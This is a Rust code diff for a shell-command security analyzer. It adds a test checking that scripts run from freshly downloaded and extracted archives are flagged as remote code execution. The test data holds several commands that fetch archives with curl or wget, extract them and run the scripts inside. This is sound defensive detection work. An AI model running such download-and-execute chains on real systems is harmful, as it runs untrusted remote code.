@@ -236,7 +236,7 @@ fn script_file(
         script.raw.clone()
     };
     a.add_path(&r, Access::Exec, name, false, &ev);
-    match a.files.get(&r.path).cloned() {
+    match a.file_content(&r.path) {
         Some(content) => exec_stream(a, inv, st, name, &content, "downloaded_file", lang, None),
         None => Stream::default(),
     }
@@ -1004,6 +1004,29 @@ mod tests {
         ] {
             let f = crate::analyze(cmd, &ctx);
             assert!(f.remote_exec.is_empty(), "{cmd}: {:?}", f.remote_exec);
+        }
+    }
+
+    /// A file extracted from an archive downloaded in the same command is downloaded code
+    /// when it is run; an archive that was not downloaded, or extracted into the working
+    /// folder (whose files were there before), gives nothing.
+    #[test]
+    fn scripts_from_downloaded_archives_are_remote_exec() {
+        let ctx = crate::ShellContext::new("/home/x/p", "/home/x", Some("/home/x/p".into()))
+            .expect("context");
+        for cmd in [
+            "curl -sL https://x.example/a.zip -o /tmp/a.zip && unzip -o /tmp/a.zip -d /tmp/a && bash /tmp/a/install.sh",
+            "curl -sL https://x.example/a.tgz | tar xz -C /tmp/a && sh /tmp/a/setup.sh",
+            "wget -qO /tmp/t.tar.gz https://x.example/t.tar.gz && tar -xzf /tmp/t.tar.gz -C /opt/t && /opt/t/bin/run.sh",
+        ] {
+            assert!(!crate::analyze(cmd, &ctx).remote_exec.is_empty(), "{cmd}");
+        }
+        for cmd in [
+            "unzip a.zip -d /tmp/a && bash /tmp/a/install.sh",
+            "curl -sL https://x.example/a.tgz -o a.tgz && tar xzf a.tgz && ls",
+            "curl -sL https://x.example/a.zip -o /tmp/a.zip && unzip /tmp/a.zip -d /tmp/a && bash ./build.sh",
+        ] {
+            assert!(crate::analyze(cmd, &ctx).remote_exec.is_empty(), "{cmd}");
         }
     }
 }
